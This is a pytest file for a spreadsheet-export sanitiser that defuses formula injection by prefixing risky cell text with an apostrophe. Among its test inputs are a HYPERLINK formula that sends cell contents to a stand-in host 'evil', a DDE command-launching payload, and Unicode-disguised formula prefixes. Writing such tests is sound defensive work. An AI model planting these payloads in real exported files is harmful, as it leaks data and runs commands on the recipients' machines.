"""One rule for cells: numbers stay numbers, text never becomes a formula."""

from __future__ import annotations

import datetime as dt
import math

import numpy as np
import pandas as pd
import pytest

from exports import safe_cell


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil/?"&A1,"x")',
        "+1+cmd|' /C calc'!A0",
        "@SUM(1)",
        "-2+3",
        "＝1+1",
        "＋1",
        "－cmd",
        "＠SUM(1)",
        "﹦1",
        " =1+1",
        '"=1+1',
        "\u200b=1+1",
        "\u202e=1+1",
        "\u00a0=1+1",
        "\u3164=1+1",
        "{=SUM(1)}",
        "«=1»",
        "-",
        "+48 22 123 45 67",
    ],
)
def test_i1_text_that_a_spreadsheet_might_compute_gets_an_apostrophe(text: str) -> None:
    assert safe_cell(text) == f"'{text}"


@pytest.mark.parametrize("control", ["\t", "\r", "\n", "\x00", "\x0b"])
def test_control_characters_go_and_cannot_hide_a_formula(control: str) -> None:
    assert str(safe_cell(f"{control}=1+1")).lstrip() in ("'=1+1", "' =1+1")
    assert str(safe_cell(f"{control}=1+1")).startswith("'")
    assert control not in str(safe_cell(f"a{control}b"))


def test_a_new_cell_of_a_european_spreadsheet_is_guarded_too() -> None:
    assert safe_cell("a;=1+1") == "a;'=1+1"
    assert safe_cell("a; @b;c") == "a;' @b;c"


@pytest.mark.parametrize("text", ["-12.5", "+3", "1e5", "-1E-3", ".5", "12", "00012"])
def test_a_number_written_as_text_stays_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


@pytest.mark.parametrize("text", ["Łódź", "O'Brien", "'=1+1", "a=b", "3 - 2", "ทีมขาย", "<b>", "a,b"])
def test_harmless_text_stays_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


@pytest.mark.parametrize("number", [-12.5, 0, 7, np.int64(-3), np.float64(-0.25), np.float32(0.5)])
def test_numbers_stay_numbers(number: float) -> None:
    assert safe_cell(number) == number
    assert isinstance(safe_cell(number), int | float)


@pytest.mark.parametrize("nothing", [None, math.nan, math.inf, -math.inf, pd.NA, pd.NaT, np.float64("nan")])
def test_what_is_not_there_is_empty(nothing: object) -> None:
    assert safe_cell(nothing) == ""


def test_a_whole_number_a_spreadsheet_would_round_is_text() -> None:
    assert safe_cell(2**53 + 1) == "9007199254740993"
    assert safe_cell(-(2**60)) == "-1152921504606846976"


def test_a_number_too_long_to_write_is_empty() -> None:
    assert safe_cell(10**5000) == ""


def test_dates_are_iso_text() -> None:
    assert safe_cell(dt.date(2027, 1, 31)) == "2027-01-31"
    assert safe_cell(pd.Timestamp("2027-01-31 10:00")) == "2027-01-31T10:00:00"


def test_truth_stays_truth() -> None:
    assert safe_cell(True) is True
    assert safe_cell(np.bool_(False)) is False
